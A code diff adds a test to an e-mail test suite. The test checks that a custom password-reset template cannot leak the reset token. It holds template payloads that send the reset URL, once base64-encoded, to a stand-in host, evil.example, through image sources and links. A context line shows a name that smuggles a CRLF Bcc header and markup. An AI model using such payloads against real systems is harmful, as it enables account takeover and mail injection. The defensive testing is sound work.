@@ -91,6 +91,30 @@ describe.each(engines)('e-mail on $name', (engine) => {
     await server.db.delete(emailTemplates);
   });
 
+  it('tells its link to whom it goes alone, whatever its text does with it', async () => {
+    const bodyEn = `<p><a href="{{ resetUrl }}">Choose</a> or {{ resetUrl }}</p>
+      <img src="https://evil.example/{{ resetUrl | url_encode }}.png" alt="">
+      <img src="{{ resetUrl }}" alt="">
+      <a href="https://evil.example/?{{ resetUrl }}">Elsewhere</a>
+      <a href="https://evil.example/?{{ resetUrl | split: '#' | last | base64_encode }}">Elsewhere</a>`;
+    await server.db
+      .insert(emailTemplates)
+      .values({ key: 'reset-password', name: 'Own', subjectEn: 'Own {{ resetUrl }}', bodyEn });
+    await forget('admin@people.test');
+    const { subject, html } = await mailbox.next('admin@people.test');
+    await server.db.delete(emailTemplates);
+    const links = String(html).match(/https:\/\/staff\.example\.com\/reset-password#[\w-]{43}/g) ?? [];
+    const token = /href="[^"]*#([\w-]{43})"[^>]*>Choose/.exec(String(html))?.[1] ?? '';
+    expect((await server.call(auth.checkForValidToken, { body: { token } })).status).toBe(200);
+    expect(links.filter((link) => link.endsWith(token))).toHaveLength(2);
+    const others = [subject, ...(String(html).match(/<img[^>]*>|<a[^>]*evil[^>]*>/g) ?? [])];
+    expect(others.length).toBeGreaterThan(3);
+    for (const other of others) {
+      expect(other).not.toContain(token);
+      expect(other).not.toContain(Buffer.from(token).toString('base64'));
+    }
+  });
+
   it('lets nobody’s name become a header, a recipient or markup', async () => {
     const name = 'Eve\r\nBcc: victim@example.com\r\n<img src=x>';
     await server.db
